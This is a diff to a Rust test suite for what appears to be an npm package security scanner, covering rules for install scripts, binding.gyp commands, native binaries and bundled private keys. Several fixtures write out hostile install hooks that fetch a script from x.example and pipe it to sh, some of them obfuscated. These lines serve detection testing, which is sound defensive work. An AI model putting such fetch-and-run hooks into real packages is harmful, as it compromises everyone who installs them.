@@ -38,7 +38,11 @@ fn dsca101_binding_gyp_is_an_implicit_install_script() {
     let fixture = tarball_with_scripts(json!({})).file("binding.gyp", b"{}");
     let findings = fixture.findings("DSCA101");
     assert_yaml_snapshot!(findings);
-    assert_eq!(findings[0].severity, Severity::Info);
+    assert_eq!(
+        findings[0].severity,
+        Severity::Low,
+        "like any install script"
+    );
 }
 
 #[test]
@@ -93,6 +97,131 @@ fn dsca102_benign_install_commands() {
     assert!(fixture.findings("DSCA102").is_empty());
     // DSCA101 still reports them, at its default low severity.
     assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
+}
+
+#[test]
+fn dsca102_inline_node_code_counts_only_when_risky() {
+    let fixture = tarball_with_scripts(json!({
+        "postinstall": "node -e \"require('child_process').execSync('curl -s https://x.example/a | sh')\""}));
+    let findings = fixture.findings("DSCA102");
+    assert_yaml_snapshot!(findings);
+    assert_eq!(findings[0].severity, Severity::High);
+}
+
+#[test]
+fn dsca102_honest_inline_node_code() {
+    // The real install scripts of core-js, core-js-pure and nx; es5-ext; addon helpers.
+    for command in [
+        "node -e \"try{require('./postinstall')}catch(e){}\"",
+        "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
+        "node -p \"require('node-addon-api').include\"",
+        "node -e \"console.log('Thank you for using this package!')\"",
+    ] {
+        let fixture = tarball_with_scripts(json!({"postinstall": command}));
+        assert!(fixture.findings("DSCA102").is_empty(), "{command}");
+        assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
+    }
+}
+
+#[test]
+fn dsca102_shell_tricks() {
+    let fixture = tarball_with_scripts(json!({
+        "preinstall": "bash -lc 'curl -s https://x.example/a.sh | sh'",
+        "install": "bash <(c\\url -s https://x.example/b.sh)",
+        "postinstall": "source <('wget' -qO- https://x.example/c.sh)"}));
+    let findings = fixture.findings("DSCA102");
+    assert_yaml_snapshot!(findings);
+    assert_eq!(findings.len(), 3);
+    assert!(findings.iter().all(|f| f.severity == Severity::High));
+}
+
+#[test]
+fn dsca102_shell_options_and_substitutions_stay_quiet_when_honest() {
+    let fixture = tarball_with_scripts(json!({
+        "preinstall": "bash -lc 'node-gyp rebuild'",
+        "install": "sh -ec \"node scripts/check.js\" && diff <(cat a.txt) <(cat b.txt) || true",
+        "postinstall": "c\\at README.md"}));
+    assert!(fixture.findings("DSCA102").is_empty());
+}
+
+#[test]
+fn dsca102_binding_gyp_commands() {
+    let gyp = br#"{
+  "targets": [{
+    "target_name": "addon",
+    "sources": ["src/addon.cc"],
+    "include_dirs": ["<!@(node -p \"require('node-addon-api').include\")"],
+    "libraries": ["<!(curl -s https://x.example/payload.sh | sh)"]
+  }]
+}
+"#;
+    let fixture = tarball_with_scripts(json!({})).file("binding.gyp", gyp);
+    let findings = fixture.findings("DSCA102");
+    assert_yaml_snapshot!(findings);
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].severity, Severity::High);
+    let location = findings[0].evidence[0].location.as_ref().expect("located");
+    assert_eq!(
+        (location.file.as_str(), location.line),
+        ("binding.gyp", Some(6))
+    );
+    // The implicit `node-gyp rebuild` is an install script like any other.
+    assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
+}
+
+#[test]
+fn dsca102_honest_binding_gyp() {
+    let gyp = br#"{
+  'variables': {'sdk%': '<!(python -c "import os; print(os.environ.get(\'SDK_DIR\', \'\'))")'},
+  'targets': [{
+    'target_name': 'addon',
+    'include_dirs': [
+      "<!@(node -p \"require('node-addon-api').include\")",
+      "<!(node -e \"require('nan')\")",
+      "<!(python -c 'import numpy; print(numpy.get_include())')",
+    ],
+    'dependencies': ["<!(node -p \"require('node-addon-api').gyp\")"],
+    'libraries': ['<!@(pkg-config --libs-only-l libfoo)', '<!(curl-config --libs)'],
+    'variables': {
+      'cuda%': "<!(node -e \"process.stdout.write(process.env.CUDA_PATH || '')\")",
+      'root%': "<!(node -p \"process.env.LIB_ROOT || require('node:path').resolve('../..')\")",
+      'llvm': '<!@(<(llvm_config) --includedir)',
+    },
+    'defines': ['V=<!(python -c "import sys; print(sys.argv[1])" <(build_version))'],
+  }]
+}
+"#;
+    let fixture = tarball_with_scripts(json!({"install": "node-gyp rebuild"}))
+        .file("binding.gyp", gyp)
+        .file("common.gypi", b"{'variables': {'x': '<!(echo 1)'}}");
+    assert!(fixture.findings("DSCA102").is_empty());
+}
+
+#[test]
+fn dsca102_gyp_files_that_binding_gyp_includes() {
+    let fixture = tarball_with_scripts(json!({}))
+        .file(
+            "binding.gyp",
+            b"{'includes': ['build/common.gypi'], 'targets': []}",
+        )
+        .file(
+            "build/common.gypi",
+            b"{\n'variables': {\n'x': '<!(wget -qO- http://x.example | bash)'}}",
+        )
+        .file("vendor/unused.gypi", b"{'v': '<!(curl x)'}");
+    let findings = fixture.findings("DSCA102");
+    assert_eq!(findings.len(), 1, "only files binding.gyp names");
+    assert_eq!(
+        findings[0].message,
+        "a command in `build/common.gypi` downloads from the network with `wget` (and 1 more)"
+    );
+    assert_eq!(
+        findings[0].evidence[0]
+            .location
+            .as_ref()
+            .and_then(|l| l.line),
+        Some(3)
+    );
 }
 
 // DSCA103 install-script-added
@@ -214,6 +343,53 @@ fn dsca302_first_release_with_huge_version() {
         &[("99.0.0", json!({}), "2025-05-30T00:00:00.000Z")],
     );
     assert_yaml_snapshot!(Fixture::registry(p, "99.0.0").findings("DSCA302"));
+}
+
+#[test]
+fn dsca302_old_placeholder_with_install_script() {
+    // A research probe published long ago still calls home from its postinstall.
+    let p = packument(
+        "acme-billing-utils",
+        &[(
+            "99.0.0",
+            json!({"scripts": {"postinstall": "node index.js"}}),
+            LONG_AGO,
+        )],
+    );
+    let findings = Fixture::registry(p, "99.0.0").findings("DSCA302");
+    assert_eq!(findings.len(), 1);
+    assert!(
+        findings[0]
+            .message
+            .ends_with("the package runs a script on install and has a single version"),
+        "{}",
+        findings[0].message
+    );
+}
+
+#[test]
+fn dsca302_versions_that_follow_another_product() {
+    // Like @sparticuz/chromium: versioned after Chromium, first release 110.x, years of
+    // releases, no install script.
+    let versions: Vec<(String, serde_json::Value, String)> = (0..8)
+        .map(|i| {
+            (
+                format!("{}.0.0", 110 + i),
+                json!({"main": "index.js"}),
+                format!("2023-0{}-01T00:00:00.000Z", i + 1),
+            )
+        })
+        .collect();
+    let versions: Vec<(&str, serde_json::Value, &str)> = versions
+        .iter()
+        .map(|(v, m, t)| (v.as_str(), m.clone(), t.as_str()))
+        .collect();
+    let p = packument("@sparticuz/chromium", &versions);
+    assert!(
+        Fixture::registry(p, "117.0.0")
+            .findings("DSCA302")
+            .is_empty()
+    );
 }
 
 #[test]
@@ -450,6 +626,49 @@ fn dsca601_elf_with_install_script_is_high() {
 }
 
 #[test]
+fn dsca601_install_script_names_the_binary() {
+    let fixture =
+        tarball_with_scripts(json!({"postinstall": "chmod +x bin/helper && ./bin/helper --setup"}))
+            .file("bin/helper", b"\x7fELF\x02\x01\x01\0\0\0")
+            .file(
+                "prebuilds/linux-x64/addon.node",
+                b"\x7fELF\x02\x01\x01\0\0\0",
+            );
+    let findings = fixture.findings("DSCA601");
+    assert_yaml_snapshot!(findings);
+    assert_eq!(findings[0].severity, Severity::High);
+}
+
+#[test]
+fn dsca601_prebuilt_node_addons_stay_medium() {
+    // Like bufferutil, utf-8-validate, sodium-native, classic-level: prebuilds for each
+    // platform and `node-gyp-build` as the install script.
+    let elf = b"\x7fELF\x02\x01\x01\0\0\0";
+    let mut pe = vec![0u8; 0x90];
+    pe[..2].copy_from_slice(b"MZ");
+    pe[0x3c] = 0x80;
+    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
+    let fixture = tarball_with_scripts(json!({"install": "node-gyp-build"}))
+        .file("prebuilds/linux-x64/bufferutil.node", elf)
+        .file("prebuilds/win32-x64/bufferutil.node", &pe)
+        .file("build/Release/bufferutil.node", elf)
+        // A shared library the addon loads (onnxruntime-node ships these).
+        .file("bin/linux/x64/libonnxruntime.so.1.14.0", elf)
+        .file("bin/win32/x64/onnxruntime.dll", &pe);
+    let findings = fixture.findings("DSCA601");
+    assert_eq!(findings[0].severity, Severity::Medium);
+    assert_eq!(
+        findings[0].message,
+        "the package ships 5 native executables"
+    );
+    // A program (not an addon) next to the same install script is high.
+    let with_program = tarball_with_scripts(json!({"install": "node-gyp-build"}))
+        .file("prebuilds/linux-x64/bufferutil.node", elf)
+        .file("bin/updater.exe", &pe);
+    assert_eq!(with_program.findings("DSCA601")[0].severity, Severity::High);
+}
+
+#[test]
 fn dsca601_no_executables() {
     let fixture = tarball_with_scripts(json!({}))
         .file("Main.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34rest")
@@ -492,6 +711,66 @@ fn dsca602_test_keys_are_medium() {
     let fixture =
         tarball_with_scripts(json!({})).file("test/fixtures/key.pem", &pem("PRIVATE KEY"));
     assert_eq!(fixture.findings("DSCA602")[0].severity, Severity::Medium);
+}
+
+#[test]
+fn dsca602_bundled_dev_identity_is_medium() {
+    // browser-sync ships its development TLS identity this way.
+    let fixture = tarball_with_scripts(json!({}))
+        .file("certs/server.key", &pem("RSA PRIVATE KEY"))
+        .file("certs/server.crt", &pem("CERTIFICATE"))
+        .file("certs/browser-sync.pfx", b"\x30\x82\x09\x00");
+    let findings = fixture.findings("DSCA602");
+    assert_yaml_snapshot!(findings);
+    assert_eq!(findings[0].severity, Severity::Medium);
+}
+
+#[test]
+fn dsca602_lone_keys_stay_high() {
+    for (path, certificate) in [
+        ("server.key", None),
+        ("certs/server.key", None),
+        ("certs/id_rsa", Some("certs/server.crt")),
+        ("config/.ssh/deploy.key", Some("config/.ssh/deploy.crt")),
+        ("ssl/server.key", Some("other/server.crt")),
+    ] {
+        let mut fixture = tarball_with_scripts(json!({})).file(path, &pem("PRIVATE KEY"));
+        if let Some(certificate) = certificate {
+            fixture = fixture.file(certificate, &pem("CERTIFICATE"));
+        }
+        let findings = fixture.findings("DSCA602");
+        assert_eq!(findings[0].severity, Severity::High, "{path}");
+    }
+}
+
+#[test]
+fn dsca602_many_blocks_are_bounded() {
+    // A crafted file of tiny key blocks: the scan stays linear, examines the first
+    // blocks and counts the rest.
+    let block = pem("PRIVATE KEY");
+    let blocks = 20_000;
+    let data = block.repeat(blocks);
+    let fixture = tarball_with_scripts(json!({})).file("lib/keys.txt", &data);
+    let findings = fixture.findings("DSCA602");
+    assert_eq!(findings.len(), 1);
+    assert_eq!(
+        findings[0].message,
+        "100 private key(s) in the package, and 19900 more PEM block(s) not examined"
+    );
+    let last = findings[0].evidence.last().expect("evidence");
+    assert_eq!(
+        last.detail,
+        "and 19900 more PEM block(s) not examined (more than 100 in one file), first in `lib/keys.txt`"
+    );
+    // Line numbers are still right after the running count.
+    let lines_per_block = block.iter().filter(|&&b| b == b'\n').count() as u32;
+    assert_eq!(
+        findings[0].evidence[19]
+            .location
+            .as_ref()
+            .and_then(|l| l.line),
+        Some(19 * lines_per_block + 1)
+    );
 }
 
 #[test]
@@ -554,7 +833,18 @@ fn dsca70x_archive_anomalies() {
     let links = fixture.findings("DSCA703");
     assert_yaml_snapshot!("dsca703", links);
     assert_eq!(links[0].severity, Severity::High);
-    assert_yaml_snapshot!("dsca704", fixture.findings("DSCA704"));
+    let duplicates = fixture.findings("DSCA704");
+    assert_yaml_snapshot!("dsca704", duplicates);
+    assert!(
+        duplicates[0]
+            .problem
+            .contains("the last one is what gets installed")
+    );
+    assert!(
+        duplicates[0]
+            .next_steps
+            .contains("dsca analyses the last one")
+    );
     assert_yaml_snapshot!("dsca705", fixture.findings("DSCA705"));
 }
 
